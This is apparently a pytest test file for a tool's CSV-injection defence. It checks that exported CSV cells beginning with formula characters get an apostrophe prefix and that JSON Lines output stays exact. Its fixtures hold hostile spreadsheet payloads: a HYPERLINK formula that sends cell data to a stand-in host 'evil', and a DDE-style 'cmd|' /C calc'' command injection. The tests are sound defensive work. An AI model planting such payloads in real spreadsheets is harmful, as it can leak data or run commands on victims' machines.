"""CSV injection: the one rule (analysis.csv_safety) for single cells and DataFrames, and the labels export
(store.export_labels, shared by `turnlens export` and the Export page) applying it to every text column of its
CSV while JSON Lines keeps the exact values."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
import uuid

import pandas as pd
import pyarrow as pa
import pytest

from analysis.candidates import CANDIDATE_SCHEMA, target_key
from analysis.csv_safety import FORMULA_STARTS, PREFIX, safe_cell, safe_frame
from app import store
from app.ingest import ingest_files
from components.exports import csv_safe
from tests.helpers import make_turn, write_jsonl

HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"x")'


@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "="])
def test_a_formula_like_cell_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "a=b", " =1", "'=1", "", "1-2", None, 3, -4.5, True])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) is value


def test_the_rule_is_owasps_list():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"} and PREFIX == "'"


def test_a_frame_gets_the_rule_in_every_text_column_and_keeps_numbers():
    frame = pd.DataFrame({"text": [HYPERLINK, "ok", None], "n": [-1, 2, 3],
                          "s": pd.Series(["@x", "-y", "z"], dtype="string"), "f": [-0.5, 1.0, 2.0]})
    safe = safe_frame(frame)
    assert safe["text"].iloc[:2].tolist() == ["'" + HYPERLINK, "ok"] and pd.isna(safe["text"].iloc[2])
    assert safe["s"].tolist() == ["'@x", "'-y", "z"]
    assert safe["n"].tolist() == [-1, 2, 3] and safe["f"].tolist() == [-0.5, 1.0, 2.0]
    assert frame["text"].iloc[0] == HYPERLINK  # the input is not modified
    pd.testing.assert_frame_equal(csv_safe(frame), safe)  # the pages' helper is the same rule


# --------------------------------------------------------------------------------- the labels export


@pytest.fixture
def hostile_db(db, tmp_path):
    """Dataset "t": a turn whose text is a formula in dialogue "-d1", one with a tab-led text; candidates from
    a model "@m" version "+1" (one value a negative number), decided by reviewer "=ana" with a correction whose
    value text starts with "+"."""
    turns = [make_turn("-d1", 0, asr_text=HYPERLINK), make_turn("d2", 0, asr_text="\tcmd|' /C calc'!A0")]
    ingest_files(db, [write_jsonl(tmp_path / "log.jsonl", turns)], dataset="t")
    rows = []
    for dialogue, value in (("-d1", "weather_query"), ("d2", -5)):
        kind, key = target_key(dialogue, 0)
        rows.append({"task": "intent", "target_kind": kind, "dialogue_id": dialogue, "turn_index": 0,
                     "other_dialogue_id": None, "other_turn_index": None, "target_key": key,
                     "value": json.dumps(value), "score": 0.5, "model_name": "@m", "model_version": "+1",
                     "model_parameters": "{}", "run_at": None})
    store.insert_candidates(db, pa.Table.from_pylist(rows, schema=CANDIDATE_SCHEMA))
    first, second = [r[0] for r in db.execute("SELECT candidate_id FROM candidates ORDER BY dialogue_id").fetchall()]
    for cid, verdict, corrected in ((first, "accept", None), (second, "correct", "+1+cmd")):
        assert store.insert_decision(db, decision_id=str(uuid.uuid4()), candidate_id=cid, reviewer="=ana",
                                     verdict=verdict, corrected_value=corrected)
    return db


def read_csv(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def as_csv_text(value) -> str:
    """How a JSON Lines value reads as CSV text (lists are JSON text in the CSV)."""
    if value is None:
        return ""
    return json.dumps(value, separators=(",", ":"), ensure_ascii=False) if isinstance(value, list) else str(value)


def check_csv_against_jsonl(csv_rows: list[dict], jsonl_rows: list[dict]) -> None:
    """Every CSV text cell is the exact value with the rule applied; numbers are the same numbers."""
    assert len(csv_rows) == len(jsonl_rows) > 0
    for got, exact in zip(csv_rows, jsonl_rows, strict=True):
        assert list(got) == list(exact)
        for column, value in exact.items():
            if isinstance(value, str | list):
                assert got[column].replace(" ", "") == as_csv_text(safe_cell(as_csv_text(value)) if isinstance(
                    value, list) else safe_cell(value)).replace(" ", ""), column
            elif isinstance(value, int | float) and not isinstance(value, bool):
                assert float(got[column]) == value, column


def test_export_labels_csv_prefixes_every_formula_like_text_and_jsonl_stays_exact(hostile_db, tmp_path):
    n = store.export_labels(hostile_db, tmp_path / "out.csv", dataset="t", kind="candidates", fmt="csv")
    assert n == store.export_labels(hostile_db, tmp_path / "out.jsonl", dataset="t", kind="candidates", fmt="jsonl")
    rows = read_csv(tmp_path / "out.csv")
    exact = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    by_dialogue = {r["dialogue_id"]: r for r in rows}
    hostile = by_dialogue["'-d1"]
    assert hostile["text"] == "'" + HYPERLINK
    assert hostile["model_name"] == "'@m" and hostile["model_version"] == "'+1"
    assert by_dialogue["d2"]["text"] == "'\tcmd|' /C calc'!A0"
    assert by_dialogue["d2"]["label"] == "'+1+cmd" and by_dialogue["d2"]["proposed_value"] == "'-5"
    assert hostile["reviewers"] == '["=ana"]'  # JSON text: starts with [, a spreadsheet does not run it
    # JSON Lines: the exact values, nothing prefixed
    exact_by_dialogue = {r["dialogue_id"]: r for r in exact}
    assert exact_by_dialogue["-d1"]["text"] == HYPERLINK and exact_by_dialogue["-d1"]["model_name"] == "@m"
    assert exact_by_dialogue["d2"]["label"] == "+1+cmd" and exact_by_dialogue["d2"]["proposed_value"] == "-5"
    check_csv_against_jsonl(rows, exact)
    # No cell of the CSV can start a formula.
    assert all(cell[:1] not in FORMULA_STARTS for r in rows for cell in r.values())


def test_export_labels_csv_is_safe_for_every_kind(hostile_db, tmp_path):
    for kind in store.EXPORT_KINDS:
        store.export_labels(hostile_db, tmp_path / f"{kind}.csv", dataset="t", kind=kind, fmt="csv")
        rows = read_csv(tmp_path / f"{kind}.csv")
        assert rows and all(cell[:1] not in FORMULA_STARTS for r in rows for cell in r.values()), kind


def test_cli_export_writes_the_safe_csv(hostile_db, tmp_path):
    path = hostile_db.execute("SELECT path FROM duckdb_databases() WHERE database_name = current_database()"
                              ).fetchone()[0]
    hostile_db.close()  # the CLI opens the file itself (one process at a time)
    out = tmp_path / "cli.csv"
    done = subprocess.run([sys.executable, "-m", "app.cli", "export", "--what", "resolved", "--dataset", "t",
                           "--out", str(out), "--db", path], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    rows = {r["dialogue_id"]: r for r in read_csv(out)}
    assert rows["'-d1"]["text"] == "'" + HYPERLINK and rows["'-d1"]["model_name"] == "'@m"
    assert all(cell[:1] not in FORMULA_STARTS for r in rows.values() for cell in r.values())
